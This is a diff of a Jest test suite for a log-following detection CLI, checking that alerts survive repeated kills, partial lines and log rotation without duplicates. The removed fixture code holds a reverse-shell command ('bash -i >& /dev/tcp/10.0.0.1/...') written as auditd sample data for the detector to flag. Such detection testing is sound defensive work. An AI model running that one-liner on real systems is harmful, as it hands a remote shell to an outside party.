@@ -1,40 +1,76 @@
 // --state: a run goes on where the last one was killed.
 import { once } from 'node:events';
-import {
-  appendFileSync,
-  existsSync,
-  readFileSync,
-  renameSync,
-  statSync,
-  writeFileSync,
-} from 'node:fs';
+import { appendFileSync, existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, jest, test } from '@jest/globals';
 import { withFiles } from '../io/files.js';
+import { execRecords, rotate } from '../support/audit-log.js';
 import { ndjson, runCli, SAMPLES, startCli } from '../support/cli.js';
 
 // Runs are started again and again.
-jest.setTimeout(60_000);
+jest.setTimeout(120_000);
 
 const ARGS = ['--follow', 'log', '--state', 'state', '-o', 'ndjson=alerts', '-o', 'text=text'];
-const KILLS = 5;
 
 const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
 
-/** Raw records of processes that connect and become shells: each is an alert of its own, told by its serial. */
-function attackRecords(count: number): readonly string[] {
-  const lines: string[] = [];
-  for (let number = 0; number < count; number++) {
-    const pid = 1000 + number;
-    const time = `${1_790_000_000 + number}.100`;
-    const common = `arch=c000003e success=yes exit=0 items=0 ppid=1 pid=${pid} auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1`;
-    lines.push(
-      `type=SYSCALL msg=audit(${time}:${2 * number + 1}): syscall=59 ${common} comm="bash" exe="/bin/bash" key="exec"`,
-      `type=EXECVE msg=audit(${time}:${2 * number + 1}): argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/10.0.0.1/${number} 0>&1"`,
-      `type=PROCTITLE msg=audit(${time}:${2 * number + 1}): proctitle="bash"`,
-    );
-  }
-  return lines;
+const rule = (id: string, query: string): string => `[rule]
+name = "${id}"
+rule_id = "${id}"
+type = "eql"
+language = "eql"
+severity = "low"
+risk_score = 1
+description = "d"
+query = '''${query}'''
+`;
+
+/** An event, a sequence, a sample: some of each are always in flight. */
+const RULES = {
+  'rules/event.toml': rule('e', 'process where process.args == "-e"'),
+  'rules/sequence.toml': rule(
+    's',
+    'sequence by host.id, process.parent.pid with maxspan=1m [process where process.args == "-a"] [process where process.args == "-b"]',
+  ),
+  'rules/sample.toml': rule(
+    'm',
+    'sample by host.id, process.parent.pid [process where process.args == "-c"] [process where process.args == "-b"]',
+  ),
+};
+
+const FLAGS = ['-a', '-b', '-c', '-e'];
+
+/** What one event of number `number` is, in lines. */
+const RAW = (number: number): string => {
+  const args = ['sh', FLAGS[(number * 7 + (number >> 3)) % 4] ?? '', String(number)];
+  return execRecords(number + 1, { ppid: 500 + ((number * 5) % 23), args }).join('');
+};
+
+const NDJSON = (number: number): string =>
+  `${JSON.stringify({
+    '@timestamp': new Date(1_790_000_000_000 + number * 100).toISOString(),
+    event: { category: ['process'], type: ['start'] },
+    host: { id: 'h', os: { type: 'linux' } },
+    process: {
+      args: ['sh', FLAGS[(number * 7 + (number >> 3)) % 4], String(number)],
+      parent: { pid: 500 + ((number * 5) % 23) },
+    },
+  })}\n`;
+
+/** Numbers that are no pattern, the same in every run. */
+function randomFrom(seed: number): () => number {
+  let state = seed;
+  return () => {
+    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
+    return state / 2 ** 32;
+  };
+}
+
+function serials(alerts: string): readonly number[] {
+  return ndjson(readFileSync(alerts, 'utf8')).map(({ events }) => {
+    const [event] = events as { document: { auditd: { sequence: number } } }[];
+    return event!.document.auditd.sequence;
+  });
 }
 
 /** Ids by which alerts are told, in no order. */
@@ -44,70 +80,80 @@ function idsOf(text: string): readonly unknown[] {
     .sort();
 }
 
-class Log {
-  readonly #path: string;
-  readonly #lines: string[];
-
-  constructor(root: string, lines: readonly string[]) {
-    this.#path = path.join(root, 'log');
-    this.#lines = [...lines];
-  }
-
-  get isDone(): boolean {
-    return this.#lines.length === 0;
-  }
-
-  write(count: number): void {
-    const part = this.#lines.splice(0, count);
-    if (part.length > 0) appendFileSync(this.#path, `${part.join('\n')}\n`);
-  }
-
-  rotate(): void {
-    for (let number = 9; number > 0; number--) {
-      const name = `${this.#path}.${number}`;
-      if (existsSync(name)) renameSync(name, `${this.#path}.${number + 1}`);
-    }
-    if (existsSync(this.#path)) renameSync(this.#path, `${this.#path}.1`);
-  }
-}
+const RULE_FLAGS = ['--no-bundled', '-r', 'rules'];
 
 describe('--state', () => {
-  test('killed again and again while the log is written and rotated: every alert once', async () => {
-    const lines = attackRecords(200);
-    await withFiles({ all: `${lines.join('\n')}\n` }, async (root) => {
-      const whole = await runCli(['all', '--json'], { cwd: root });
-      const expected = idsOf(whole.stdout);
-      expect(expected.length).toBeGreaterThan(100);
-      const log = new Log(root, lines);
-      const state = path.join(root, 'state');
-      for (let kill = 0; kill < KILLS; kill++) {
-        const child = startCli(ARGS, { cwd: root });
-        const closed = once(child, 'close');
-        while (!existsSync(state)) await sleep(10);
-        const steps = 20;
-        for (let step = 0; step < steps; step++) {
-          log.write(3 * (1 + (step % 2)));
-          if (step % 7 === kill % 7) log.rotate();
-          await sleep(30 + 10 * kill);
+  test.each([
+    ['raw records', RAW],
+    ['NDJSON', NDJSON],
+  ])(
+    'killed at any time while a log of %s is written and rotated: every alert once',
+    async (_, line) => {
+      const random = randomFrom(line === RAW ? 1 : 2);
+      const lines = Array.from({ length: 900 }, (_unused, number) => line(number));
+      await withFiles({ ...RULES, all: lines.join(''), log: '' }, async (root) => {
+        const whole = await runCli(['all', '--json', ...RULE_FLAGS], { cwd: root });
+        const expected = idsOf(whole.stdout);
+        expect(expected.length).toBeGreaterThan(200);
+        const log = path.join(root, 'log');
+        const start = (): (() => Promise<unknown>) => {
+          const child = startCli([...ARGS, ...RULE_FLAGS], { cwd: root });
+          const closed = once(child, 'close');
+          return () => (child.kill('SIGKILL'), closed);
+        };
+        let kill = start();
+        // From now on nothing that is written may be missed.
+        while (!existsSync(path.join(root, 'state'))) await sleep(10);
+        let due = 300;
+        for (const [number, text] of lines.entries()) {
+          // In the middle of a line, and of an event.
+          const cut = Math.floor(random() * text.length);
+          appendFileSync(log, text.slice(0, cut));
+          if (number === due) {
+            await kill();
+            due += Math.floor(40 + random() * 160);
+            if (random() < 0.5) await sleep(random() * 300);
+            kill = start();
+          }
+          appendFileSync(log, text.slice(cut));
+          if (random() < 0.01) rotate(log, random() < 0.7 ? 'renamed' : 'copied and cut');
+          if (number % 4 === 0) await sleep(random() * 40);
         }
-        child.kill('SIGKILL');
-        await closed;
-        log.write(6);
-        if (kill % 2 === 0) log.rotate();
+        const alerts = (): string => readFileSync(path.join(root, 'alerts'), 'utf8');
+        for (let wait = 0; wait < 400 && ndjson(alerts()).length < expected.length; wait++) {
+          await sleep(50);
+        }
+        await sleep(700);
+        await kill();
+        expect(idsOf(alerts())).toEqual(expected);
+        const text = readFileSync(path.join(root, 'text'), 'utf8');
+        expect(text.match(/^alert +/gm)).toHaveLength(expected.length);
+      });
+    },
+  );
+
+  test('an event that was told before all of it was there is not told again when it is', async () => {
+    const event = execRecords(1, { args: ['sh', '-e'] });
+    await withFiles({ ...RULES, log: '' }, async (root) => {
+      const log = path.join(root, 'log');
+      const alerts = path.join(root, 'alerts');
+      const args = [...ARGS, ...RULE_FLAGS];
+      const first = startCli(args, { cwd: root });
+      const killed = once(first, 'close');
+      while (!existsSync(path.join(root, 'state'))) await sleep(10);
+      appendFileSync(log, event.slice(0, 2).join(''));
+      while (!existsSync(alerts) || ndjson(readFileSync(alerts, 'utf8')).length === 0) {
+        await sleep(20);
       }
-      const child = startCli(ARGS, { cwd: root });
-      const closed = once(child, 'close');
-      while (!log.isDone) log.write(50);
-      const alerts = (): string => readFileSync(path.join(root, 'alerts'), 'utf8');
-      for (let wait = 0; wait < 600 && ndjson(alerts()).length < expected.length; wait++) {
-        await sleep(50);
-      }
-      await sleep(1000);
-      child.kill('SIGTERM');
-      await closed;
-      expect(idsOf(alerts())).toEqual(expected);
-      const text = readFileSync(path.join(root, 'text'), 'utf8');
-      expect(text.match(/^alert +/gm)).toHaveLength(expected.length);
+      first.kill('SIGKILL');
+      await killed;
+      appendFileSync(log, `${event[2]}${execRecords(2, { args: ['sh', '-e'] }).join('')}`);
+      const second = startCli(args, { cwd: root });
+      const ended = once(second, 'close');
+      while (!serials(alerts).includes(2)) await sleep(20);
+      second.kill('SIGTERM');
+      await ended;
+      expect(serials(alerts)).toEqual([1, 2]);
     });
   });
 
